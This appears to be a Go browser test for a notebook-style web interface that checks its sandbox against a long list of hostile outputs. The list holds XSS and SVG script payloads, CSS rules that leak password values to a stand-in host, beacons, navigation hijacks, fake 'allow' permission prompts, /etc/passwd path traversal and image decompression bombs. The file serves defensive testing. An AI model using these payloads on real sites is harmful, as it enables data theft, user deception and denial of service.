//go:build unix

package webui

import (
	"strings"
	"testing"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/target"
	"github.com/chromedp/chromedp"
)

// hostileKinds are results of many kinds in Python, for which hostilePrelude defines names.
const hostileKinds = `
rtc = "c=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:9'}]});c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))"
def script(code): return "<p>x<script>try{" + code + "}catch(e){}</script>"
styles = ["@import url('EAR/1') layer(a) supports(display:block) print", "@namespace url(EAR/2)", "body{background:-webkit-image-set(url(EAR/3) 1x)}", "body{background:-webkit-cross-fade(url(EAR/4),url(EAR/5),50%)}",
    ":root{--a:url(EAR/6);background:var(--a)}", "@property --b{syntax:'<image>';inherits:true;initial-value:url(EAR/7)}", "@font-face{font-family:f;src:local(x),url(EAR/8);unicode-range:U+61}b{font-family:f}",
    "input[type=password][value^=a]{background:url(EAR/9)}", "a:visited{background:url(EAR/10)}", "b::before{content:url(EAR/11)}", "b{cursor:-webkit-image-set(url(EAR/12) 1x),auto;shape-outside:url(EAR/13);offset-path:url(EAR/14#x);clip-path:url(EAR/15#x)}",
    "@counter-style c{system:cyclic;symbols:url(EAR/16)}li{list-style:c}", "@keyframes k{to{background:url(EAR/17)}}body{animation:k 9ms infinite}", "@page{background:url(EAR/18)}", "@view-transition{navigation:auto}", "html{height:99999999px;zoom:999}*{resize:both;all:unset}",
    "html:hover{height:9px}html{animation:h 9ms infinite alternate}@keyframes h{from{height:10px}to{height:9000px}}", "b{background:paint(x);filter:url('data:image/svg+xml,<svg><filter><feImage href=EAR/19></svg>#x')}"]
for css in styles: only("<style>" + css + "</style><b>x</b><input type=password value=abc><a href=EAR>x</a><ul><li>x</ul>")
svg = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='99'>%s</svg>"
for inner in ("<a><animate attributeName='href' to='" + link + "' dur='1ms' fill='freeze'/><rect width='99' height='99'/></a>", "<set attributeName='href' to='EAR/20'/><image><set attributeName='href' to='EAR/21'/></image>", "<use href='data:image/svg+xml,<svg id=x onload=" + bad + "></svg>#x'/>",
              "<script href='EAR/22'/>", "<discard begin='0s' onbegin='" + bad + "'/>", "<style>@import 'EAR/23';</style>", "<textPath href='EAR/24#x'/><mpath href='EAR/25'/><pattern href='EAR/26#p'/>", "<image href='data:image/svg+xml,<svg><image href=EAR/27></svg>'/>"):
    show(svg % inner, "image/svg+xml"); only(svg % inner)
for html in ("<math href='" + link + "'><maction actiontype='statusline' xlink:href='EAR/28'>x</maction><annotation-xml encoding='text/html'><img src=EAR/29 onerror=" + bad + "></annotation-xml></math>", "<?xml-stylesheet href='EAR/30'?><?import namespace=x implementation='EAR/31'?>",
             "<fencedframe src=EAR/32></fencedframe><portal src=EAR/33></portal><webview src=EAR/34></webview><controlledframe src=EAR/35>", "<a href=EAR/36 attributionsrc=EAR/37 ping=EAR/38 style='position:fixed;inset:0'>x</a><img attributionsrc=EAR/39 src=data:,>", "<link rel=compression-dictionary href=EAR/40><link rel=expect href=#x blocking=render><link rel=alternate href=EAR/41><link rel=pingback href=EAR/42><link rel=monetization href=EAR/43><link rel=prerender href=EAR/44><link rel=dns-prefetch href=//a.invalid>",
             "<button commandfor=d command=show-modal autofocus style='position:fixed;inset:0'>Allow in this session</button><dialog id=d>" + tag + "</dialog>", "<div popover=auto id=p>x</div><button popovertarget=p popovertargetaction=show interestfor=p>x</button>", "<div><template shadowrootmode=open shadowrootclonable>" + tag + "<slot></slot></template></div>",
             "<select size=1 style='width:100%;height:90px' autofocus>" + "<option>x" * 999 + "</select>", "<input type=color style='width:100%;height:90px'>", "<input type=date style='width:100%;height:90px'>", "<input type=file multiple webkitdirectory style='width:100%;height:90px'>", "<input list=l><datalist id=l><option>x</datalist>", "<form><input required><button style='width:100%;height:90px'>x</button></form>",
             "<form action=EAR/45 method=dialog><button formaction='" + link + "' formtarget=_top accesskey=v style='width:100%;height:90px'>x</button></form>", "<a download=x href=data:,x style='position:fixed;inset:0'>x</a>", "<a href=mailto:x@example.invalid style='position:fixed;inset:0'>x</a>", "<a href=/download/main?format=txt target=_parent style='position:fixed;inset:0'>x</a>", "<a href=/frame/main/9/0?scripts=run style='position:fixed;inset:0'>x</a>", "<a href=/in#x target=main style='position:fixed;inset:0'>x</a>",
             "<div contenteditable autofocus tabindex=1 accesskey=c draggable=true>" + "x" * 99 + "</div>", "<h1 id=x style='margin-top:9e6px' tabindex=0 autofocus>x</h1>", "<b>" * 100_000, "<table>" * 5000, "<i>x</i>" * 300_000, "<p style='width:1e8px;height:1e8px;background:linear-gradient(red,blue)'>x", "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='50000' height='50000'><rect width='50000' height='50000'/></svg>\">",
             "<p dir=rtl>\u202egnp.exe\u202c \u2066\u2069\u200b" * 99, "<p class=permit>The sandbox stopped a call. If you allow it, this session may write.<button>Always in this workspace</button>", "<marquee behavior=alternate scrollamount=9999 onstart=" + bad + " onbounce=" + bad + ">x</marquee><bgsound src=EAR/46><img dynsrc=EAR/47 lowsrc=EAR/48 longdesc=EAR/49>", "<object classid='clsid:x' codebase=EAR/50 data=EAR/51><param name=src value=EAR/52></object><embed code=EAR/53 type=application/pdf src=EAR/54>", "<video poster=EAR/55 controls><source src=EAR/56 onerror=" + bad + "><track src=EAR/57 default></video>",
             "<html xmlns:html='x' profile=EAR/58><body background=EAR/59 onhashchange=" + bad + " onscrollend=" + bad + " oncontentvisibilityautostatechange=" + bad + ">", "<p style='content-visibility:auto' oncontentvisibilityautostatechange=" + bad + ">x", "<p onbeforematch=" + bad + " hidden=until-found id=x>x", "<xmp><script>" + bad + "</script></xmp><listing>" + tag + "</listing><noembed>" + tag + "</noembed>", "<script type=importmap>{\"imports\":{\"x\":\"EAR/60\"}}</script><script type=module>import 'x'</script>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"EAR/61\"],\"eagerness\":\"immediate\"}]}</script>",
             "<iframe srcdoc=\"<script>" + rtc + "</script>\"></iframe>", "<iframe src=\"data:text/html,<link rel=preconnect href=EAR/62><script>" + rtc + "</script>\"></iframe><iframe credentialless src=EAR/63></iframe>", "<x-iframe></x-iframe><ifr\x00ame srcdoc='<link rel=preconnect href=EAR/64>'></iframe><li\x00nk rel=preconnect href=EAR><svg><link rel=preconnect href=EAR></svg>", "<frameset rows=*><frame src=EAR/65></frameset>"):
    only(html)
for code in ("document.body.innerHTML='<iframe srcdoc=\"<script>" + rtc + "<\\/script>\"></iframe>'", "document.body.append(document.createRange().createContextualFragment('<iframe srcdoc=\"<script>" + rtc + "<\\/script><link rel=preconnect href=EAR>\"></iframe>'))", "document.body.setHTMLUnsafe('<template shadowrootmode=open><link rel=preconnect href=EAR></template>')", "document.write('<link rel=preconnect href=EAR><base href=EAR/>')",
             "new Worker(URL.createObjectURL(new Blob(['fetch(\"EAR/66\")'])))", "new SharedWorker('data:text/javascript,fetch(\"EAR/67\")')", "navigator.serviceWorker.register('EAR/68').catch(()=>{})", "new AudioContext().audioWorklet.addModule('data:text/javascript,fetch(\"EAR/69\")').catch(()=>{})", "CSS.paintWorklet.addModule('data:text/javascript,1')", "new WebTransport('https://127.0.0.1:9').ready.catch(()=>{})", "import('EAR/70').catch(()=>{})", "fetchLater('EAR/71',{activateAfter:0})", "new Image().srcset='EAR/72 1x'", "navigator.sendBeacon('EAR/73')",
             "setInterval(()=>{for(let i=0;i<99;i++)parent.postMessage({height:Math.random()*1e9},'*')},1)", "for(const m of [{height:NaN},{height:'9px'},{height:{valueOf(){return 9}}},{ready:true,drawn:true,svg:'x',id:1},null,[],'x'])parent.postMessage(m,'*')", "setInterval(()=>{focus();document.body.tabIndex=0;document.body.focus();parent.focus()},50)", "onkeydown=e=>e.preventDefault();navigator.keyboard.lock()", "history.back();history.go(-1);setTimeout(()=>history.go(-2),500)", "for(let i=0;i<50;i++){history.pushState(i,'','#'+i);location.hash=i+'x'}", "alert(1);confirm(1);prompt(1);print()", "onbeforeunload=e=>{e.preventDefault();return 'stay'}",
             "top.location='EAR/74'", "top.location.replace('/download/main')", "parent.location.hash='at-1'", "open('EAR/75','_top');open('/s/main','_blank').opener", "parent.name='x';top.close();window.name='x'.repeat(1e6)", "document.cookie='a=1';localStorage.a=1", "document.documentElement.requestFullscreen().catch(()=>{});document.body.requestPointerLock();navigator.wakeLock.request().catch(()=>{})", "new BroadcastChannel('turnstone').postMessage(1);navigator.locks.request('stream',()=>new Promise(()=>{})).catch(()=>{})",
             "for(const f of [parent.frames,top.frames])for(let i=0;i<f.length;i++)f[i].postMessage({height:9},'*')", "parent[0].location='EAR/76'", "parent.frames[0].location='javascript:" + bad.replace("'", "\\'") + "'", "Object.prototype.height=9;Array.prototype.then=1", "fetch('/api/hello').catch(()=>{});fetch('/lib/draw.js',{headers:{'Sec-Fetch-Dest':'script'}}).catch(()=>{})", "for(const a of ['/lib/draw.js','/lib/..%2fapi/hello','/lib/x.js','/static/main.js']){const s=document.createElement('script');s.src=a;document.body.append(s)}",
             "location='/frame/main/1/0?scripts=run'", "location='blob:null/x'", "const a=document.createElement('a');a.href='data:,x';a.download='x';a.click()", "const a=document.createElement('a');a.href='tel:1';a.click()", "navigator.clipboard.writeText('x').catch(()=>{});document.execCommand('copy')", "navigator.credentials.get({password:true}).catch(()=>{});new PaymentRequest([{supportedMethods:'EAR/77'}],{total:{label:'x',amount:{currency:'EUR',value:'1'}}}).show().catch(()=>{})"):
    only(script(code))
for kind in ("application/xhtml+xml", "text/xml", "text/javascript", "text/css", "application/pdf", "text/html; charset=x", "TEXT/HTML", "text/html\nx: y", "image/svg+xml;x", "image/bmp", "multipart/x-mixed-replace", "application/vnd.jupyter.widget-view+json", "application/vnd.vega.v5+json", "application/vnd.plotly.v1+json", "application/vnd.bokehjs_exec.v0+json", "application/geo+json", "__proto__", "text/\u202eplain"):
    show("<script>" + bad + "</script>", kind)
for meta in ({"text/html": {"isolated": True, "height": 9e9, "turnstone_library": ["/etc/passwd"]}}, {"application/vnd.plotly.v1+json": {"turnstone_library": {"x": "../../etc/passwd"}}}, {"needs_background": "url(EAR/78)", "width": "100%;background:url(EAR/79)"}):
    display({"text/html": tag, "application/vnd.plotly.v1+json": {"data": [{"x": tag}], "layout": {"images": [{"source": "EAR/80"}]}}, "text/plain": "x"}, metadata=meta, raw=True)
import zlib, struct
def chunk(kind, data): return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
display({"image/png": b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 50000, 50000, 1, 0, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(bytes(6251 * 50000), 1)) + chunk(b"IEND", b"")}, raw=True)
display({"image/gif": b"GIF89a" + struct.pack("<HH", 6000, 6000) + b"\x80\0\0\0\0\0\xff\xff\xff" + (b"\x21\xf9\x04\0\0\0\0\0\x2c\0\0\0\0" + struct.pack("<HH", 6000, 6000) + b"\0\x02\x02\x4c\x01\0") * 5000 + b";"}, raw=True)
`

// Results of many kinds do not reach the page or another server, before and after the user runs their
// scripts, and the page answers. It runs before the parallel tests, because its results take all processors.
func TestPage_HostileKinds(t *testing.T) {
	e := newHTTPListener(t)
	replace := strings.NewReplacer("EAR", e.URL)
	s, b := openMain(t, replace.Replace(hostilePrelude))
	if reply := s.execCode("main", replace.Replace(hostileKinds)); reply.Outcome != "ok" {
		t.Fatal(reply.Text())
	}
	if err := chromedp.Listen(b.ctx, func(ev any) {
		switch ev := ev.(type) {
		case *page.EventJavascriptDialogOpening:
			t.Errorf("a dialog: %s", ev.Message)
		case *page.EventWindowOpen, *page.EventFileChooserOpened, *browser.EventDownloadWillBegin, *target.EventTargetCrashed:
			t.Errorf("%T: %v", ev, ev)
		}
	}); err != nil {
		t.Fatal(err)
	}
	b.waitUntil("the results are shown", `document.querySelectorAll(".display").length > 100`)
	b.setSize(1100, 2000)
	evalExpression[bool](b, `(window.confirm = () => true, window.address = location.href, window.stored = document.cookie + JSON.stringify(localStorage) + JSON.stringify(sessionStorage), true)`)
	check := func(when string) {
		t.Helper()
		b.scrollThrough(func() { b.clickForeign(); b.waitTimer() })
		b.takeScreenshot("hostile-kinds-" + strings.ReplaceAll(when, " ", "-"))
		if !evalExpression[bool](b, `location.href === address && document.cookie + JSON.stringify(localStorage) + JSON.stringify(sessionStorage) === stored && !document.fullscreenElement`) {
			t.Errorf("%s: the page went to %s", when, evalExpression[string](b, "location.href"))
		}
		b.checkUntouched(e)
	}
	check("without scripts")
	evalExpression[bool](b, `(`+turnWheel+`, document.querySelector(".scroll").scrollTop = 0, true)`)
	b.clickElement("button", "Run the scripts of this result")
	b.clickElement("button", "Always in this session")
	check("with scripts")
	b.runCode("40 + 2")
	b.waitUntil("the page works", `[...document.querySelectorAll(".turn")].some((turn) => turn.innerText.includes("ada") && turn.innerText.includes("42"))`)
}

// Scripts of a result that the user runs do not get what the user types into the page.
func TestPage_KeptFocus(t *testing.T) {
	t.Parallel()
	_, b := openMain(t, showCode, `show("<input><script>setInterval(() => { focus(); document.querySelector('input').focus(); }, 20)</script>")`)
	b.waitUntil("the result is shown", `document.querySelector(".more")`)
	evalExpression[bool](b, `(window.confirm = () => true, true)`)
	b.clickElement("button", "Run the scripts of this result")
	evalExpression[bool](b, `(document.querySelector(".write textarea").focus(), true)`)
	b.waitText("This result took the keyboard, and was ended.")
	b.pressKeys("secret")
	if typed := evalExpression[string](b, `document.querySelector(".write textarea").value`); typed != "secret" {
		t.Errorf("the field has %q", typed)
	}
}

// waitTimer waits until a timer of the page has run.
func (b *browserTab) waitTimer() {
	b.t.Helper()
	evalExpression[bool](b, `new Promise((r) => setTimeout(r, 0, true))`)
}
